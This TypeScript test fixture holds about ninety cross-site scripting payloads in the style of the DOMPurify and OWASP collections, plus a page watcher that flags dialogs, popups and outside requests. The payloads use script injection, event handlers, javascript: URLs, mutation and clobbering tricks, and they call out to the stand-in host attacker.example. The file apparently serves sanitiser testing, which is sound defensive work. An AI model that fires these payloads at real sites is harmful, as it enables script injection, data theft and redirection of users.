/** What strangers write to run on the pages of others, and a window that is watched for it. */
import type { Window } from './client.ts'

/** What it does where it runs: it marks the page, and calls elsewhere. */
const run = "top.pwned=1;parent.pwned=1;window.pwned=1;fetch('https://attacker.example/')"
const away = 'https://attacker.example/x'

/** Bodies of the kinds that DOMPurify and OWASP collect. */
export const bodies: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script type="module">${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=&#x77;&#x69;&#x6e;dow.pwned=1>`,
  `<img """><script>${run}</script>">`,
  `<img src="javascript:${run}">`,
  `<img srcset="${away} 1x" onload="${run}">`,
  `<img src=x:x onerror\n=\n"${run}">`,
  `<image src=x onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${away}.js"/></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">press</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><style><img src=x onerror="${run}"></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;"></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${run}">press</mi></math>`,
  `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
  `<textarea><p title="</textarea><img src=x onerror='${run}'>"></textarea>`,
  `<title><p title="</title><img src=x onerror='${run}'>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror='${run}'>"></xmp>`,
  `<style><p title="</style><img src=x onerror='${run}'>"></style>`,
  `<template><img src=x onerror="${run}"></template>`,
  `<template shadowrootmode="open"><script>${run}</script></template>`,
  `<!--><img src=x onerror="${run}">-->`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror="${run}">]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run}</script>`,
  `<body onload="${run}" onpageshow="${run}" onfocus="${run}">text</body>`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="JaVaScRiPt:${run}">press</a>`,
  `<a href="java&#x09;script:${run}">press</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">press</a>`,
  `<a href=" &#14; javascript:${run}">press</a>`,
  `<a href="vbscript:msgbox(1)">press</a>`,
  `<a href="data:text/html,<script>${run}</script>">press</a>`,
  `<a href="#" onclick="${run}" onmouseover="${run}" onfocus="${run}" autofocus>press</a>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<frameset><frame src="javascript:${run}"></frameset>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=="></object>`,
  `<embed src="${away}.swf" allowscriptaccess="always">`,
  `<applet code="x" archive="${away}.jar"></applet>`,
  `<base href="https://attacker.example/"><img src="x.png"><a href="x">press</a>`,
  `<base target="_top"><a href="${away}">press</a>`,
  `<meta http-equiv="refresh" content="0;url=${away}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv="Set-Cookie" content="pwned=1">`,
  `<link rel="stylesheet" href="${away}.css">`,
  `<link rel="prefetch" href="${away}"><link rel="dns-prefetch" href="//attacker.example">`,
  `<style>@import '${away}.css';body{background:url(${away}.png)}</style>`,
  `<div style="background:url('${away}.png')">text</div>`,
  `<div style="background-image:u\\72l(${away}.png)">text</div>`,
  `<div style="width:expression(${run})">text</div>`,
  `<div style="behavior:url(${away}.htc);-moz-binding:url(${away}.xml)">text</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">covers all</div>`,
  `<table background="${away}.png"><td background="javascript:${run}">cell</table>`,
  `<form action="${away}" id=f><input name=password autofocus onfocus="${run}"><button formaction="javascript:${run}">press</button></form>`,
  `<form><input type=image src="${away}.png" onerror="${run}"></form>`,
  `<isindex type=image src=1 onerror="${run}">`,
  `<input onfocus="${run}" autofocus><select onfocus="${run}" autofocus></select><keygen autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video><video poster="${away}.png"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<details open ontoggle="${run}">x</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<div onpointerrawupdate="${run}" onanimationstart="${run}" style="animation:x 1s">x</div>`,
  `<div popover id=p onbeforetoggle="${run}">x</div><button popovertarget=p>press</button>`,
  `<dialog open onclose="${run}"><form method=dialog><button>x</button></form></dialog>`,
  `<a id=location href="x"><a id=location name=href href="javascript:${run}">clobbers</a></a>`,
  `<img name=body><img name=cookie><form name=getElementById></form>`,
  `<p>{{constructor.constructor('${run.replaceAll("'", '&#39;')}')()}}</p>`,
  `+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-`,
  `<\u0000script>${run}</script>`,
  `<img src=x o\u0000nerror="${run}">`,
  `\u00bcscript\u00be${run}\u00bc/script\u00be`,
  `<portal src="${away}" onload="${run}"></portal>`,
  `<b${' '.repeat(2000)}onmouseover="${run}">x</b>`,
]

/** What a stranger may write where a name or a subject stands. */
export const words = ['<script>window.pwned=1</script>', '"><img src=x onerror=window.pwned=1>', "javascript:window.pwned=1//'", '<svg/onload=window.pwned=1>', '${window.pwned=1}{{window.pwned=1}}'] // prettier-ignore

/** Loads the page anew and watches it: what runs, asks, or opens a window is a complaint. What is asked of other hosts is in the list that it gives. */
export async function watched({ page, complaints }: Window): Promise<string[]> {
  const elsewhere: string[] = []
  await page.context().addInitScript(() => Object.defineProperty(globalThis, 'pwned', { set: () => console.error('pwned') }))
  await page.reload()
  page.on('dialog', (dialog) => void (complaints.push(`dialog: ${dialog.message()}`), dialog.dismiss()))
  page.context().on('page', (opened) => complaints.push(`a window opened: ${opened.url()}`))
  page.on('request', (request) => void (new URL(request.url()).hostname === 'localhost' || /^(data|blob):/.test(request.url()) || elsewhere.push(request.url()))) // prettier-ignore
  return elsewhere
}
